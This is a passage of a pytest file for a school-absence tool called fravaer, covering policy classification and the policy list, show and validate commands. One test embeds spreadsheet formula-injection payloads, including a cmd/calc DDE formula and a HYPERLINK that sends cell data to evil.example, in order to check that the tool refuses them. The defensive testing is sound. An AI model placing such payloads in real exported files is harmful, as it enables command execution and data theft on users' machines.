        schema=s.CANONICAL_SCHEMA,
    )


@pytest.mark.parametrize("national", [None, NATIONAL_POLICY])
def test_days_rules_and_all_any_steps_equal_the_hand_computed_ones(national: str | None) -> None:
    policy = parse_policy(NESTED, source="nested.toml")
    national_policy = None if national is None else load_policy(national)

    out = classify(_frame(), policy=policy, national=national_policy, as_of=DAYS[-1]).collect()

    assert out.columns == [*s.CLASSIFY_COLUMNS, *RULE_COLUMNS]
    got = {row[s.PUPIL_ID]: row for row in out.iter_rows(named=True)}
    assert got.keys() == EXPECTED.keys()
    for pupil, (step, status, pct, *rules, quarter_pct, flag) in EXPECTED.items():
        row = got[pupil]
        assert (row[s.STEP], row[s.STATUS]) == (step, status), pupil
        assert row[s.ABSENCE_PCT] == pytest.approx(pct, abs=1e-9), pupil
        for column, value in zip(RULE_COLUMNS, rules, strict=True):
            assert row[column] == pytest.approx(value, abs=1e-9), (pupil, column)
        if national_policy is None:
            assert (row[s.QUARTER_UNLAWFUL_PCT], row[s.QUARTER_FLAG]) == (None, None), pupil
        else:
            assert row[s.QUARTER_UNLAWFUL_PCT] == pytest.approx(quarter_pct, abs=1e-9), pupil
            assert row[s.QUARTER_FLAG] == flag, pupil


# -- the command line: fravaer policy list | show | validate -----------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_cli_policy_validate_accepts_every_bundled_file(name: str) -> None:
    path = BUNDLED / f"{name}.toml"

    result = run("policy", "validate", path)

    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert (
        result.stderr
        == f"fravaer: {path}: valid policy {name} version {load_policy(name).version}\n"
    )


def test_cli_policy_validate_names_file_line_and_field(tmp_path: Path) -> None:
    path = tmp_path / "bad.toml"
    text = AALBORG.replace("at_least = 15 }", 'at_least = "15" }')
    path.write_text(text, encoding="utf-8")

    result = run("policy", "validate", path)

    assert result.exit_code == 78, result.output
    assert result.stdout == ""
    line = line_of(text, 'at_least = "15"')
    assert result.stderr == (
        f"fravaer: error: {path}:{line}: field 'steps.1.when.at_least': must be a number\n"
    )


@pytest.mark.parametrize("path", sorted(EXAMPLE_POLICIES.glob("*.toml")), ids=lambda p: p.name)
def test_cli_policy_validate_on_the_examples(path: Path) -> None:
    """Each example whose name starts with `bad-` has one fault; the others are valid."""
    result = run("policy", "validate", path)

    if path.name.startswith("bad-"):
        assert result.exit_code == 78, result.output
        assert result.stderr.startswith(f"fravaer: error: {path}")
        assert result.stderr.count("\n") == 1
    else:
        assert result.exit_code == 0, result.output


def test_policy_action_text_is_no_live_formula_in_csv(tmp_path: Path) -> None:
    """Policy texts reach the escalation CSV as they are: one that a spreadsheet would run
    (``@SUM(1+1)``, ``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``) or that holds an escape
    character is refused like a hostile id (docs/privacy.md#what-is-refused-on-reading)."""
    text = (
        AALBORG.replace('name = "aalborg-2023"', 'name = "hostile-policy"')
        .replace('series = "aalborg"\n', "")
        .replace('da = "Klasseteamet"', 'da = "@SUM(1+1)"')
        .replace(
            '"Klasseteamet afdækker årsagerne til fraværet.",',
            '"=HYPERLINK(\\"http://evil.example/?\\"&A2,\\"klik\\")", "\\u001b[31mRED",',
        )
        .replace('da = "Tovholder"', "da = \"=cmd|' /C calc'!A0\"")
    )
    path = tmp_path / "policy.toml"
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "e.csv"

    validate = run("policy", "validate", path)
    escalate = run("escalate", ROOT / "examples" / "demo-export.csv", "--since", "2024-02-23",
                   "--policy", path, "-o", out)  # fmt: skip

    line = line_of(text, "@SUM")
    for result in (validate, escalate):
        assert result.exit_code == 78, result.output
        assert result.stdout == ""
        assert result.stderr == (
            f"fravaer: error: {path}:{line}: field 'steps.0.responsible.da': text begins with "
            "=, +, - or @, which a spreadsheet would run as a formula (and 5 more)\n"
        )
    assert not out.exists()


def test_cli_policy_validate_refuses_a_file_not_ending_in_toml(tmp_path: Path) -> None:
    path = tmp_path / "policy.txt"
    path.write_text(AALBORG, encoding="utf-8")

    result = run("policy", "validate", path)

    assert result.exit_code == 2
    assert "a policy file ends in .toml" in result.stderr


@pytest.mark.parametrize(
    ("lang", "words"),
    [
        ("en", ("Rules", "Steps", "Step", "Source: ")),
        ("da", ("Regler", "Trin", "Trin", "Kilde: ")),
    ],
)
@pytest.mark.parametrize("name", ["aalborg-2023", "slagelse", "national-unlawful"])
def test_cli_policy_show_prints_rules_and_steps(
    name: str, lang: Lang, words: tuple[str, ...]
) -> None:
    policy: Policy = load_policy(name)

    result = run("policy", "show", name, "--lang", lang)

    assert result.exit_code == 0, result.output
    out = result.stdout
    assert out.splitlines()[0] == policy.title(lang)
    rules_heading, steps_heading, step_word, source_word = words
    assert f"\n{rules_heading}\n" in out
    assert f"\n{steps_heading}\n" in out
    assert f"\n{source_word}{policy.source}\n" in out
    for rule in policy.rules:
        assert f"  {rule}: " in out
    for step in policy.steps:
        label = f" ({step.label})" if step.label else ""
        assert f"  {step_word} {step.step}{label}: " in out
        assert step.responsible(lang) in out
        for action in step.actions(lang):
            assert f"    • {action}\n" in out


def test_cli_policy_show_english_thresholds_in_words() -> None:
    out = run("policy", "show", "slagelse", "--lang", "en").stdout

    assert (
        "Step 1: consecutive ≥ 5 days in a row or absent_days_20 ≥ 5 days or "
        "absent_days_60 ≥ 15 days" in out
    )


def test_cli_policy_show_reads_a_path(tmp_path: Path) -> None:
    path = tmp_path / "nested.toml"
    path.write_text(NESTED, encoding="utf-8")

    result = run("policy", "show", path, "--lang", "en")

    assert result.exit_code == 0, result.output
    assert "Step 1: days_20 ≥ 4 days and (pct_40 ≥ 20 % or unlawful_10 ≥ 2 days)" in result.stdout


def test_cli_policy_list_csv_names_every_bundled_policy() -> None:
    result = run("policy", "list", "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == ["name", "series", "version", "effective_from", "title"]
    assert [row["name"] for row in rows] == NAMES
    assert [row["series"] for row in rows] == [load_policy(n).series or n for n in NAMES]
    assert [row["version"] for row in rows] == [load_policy(n).version for n in NAMES]
    assert rows[NAMES.index("aalborg-2023")]["effective_from"] == "2023-08-01"


@pytest.mark.parametrize("ref", sorted({*NAMES, *bundled_series()}))
def test_cli_policy_show_shows_every_bundled_policy_and_series(ref: str) -> None:
    result = run("policy", "show", ref, "--lang", "en")

    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    versions = bundled_series()[ref] if ref in bundled_series() else [load_policy(ref)]
    shown = [line for line in result.stdout.splitlines() if " · version " in line]
    assert shown == [
        f"{p.name} · version {p.version} · in force from {p.effective_from}" for p in versions
    ]


def test_cli_policy_unknown_name_exits_78() -> None:
    result = run("policy", "show", "nope")

    assert result.exit_code == 78
    assert result.stdout == ""
    assert result.stderr.startswith("fravaer: error: unknown policy 'nope'\nfravaer: hint: ")
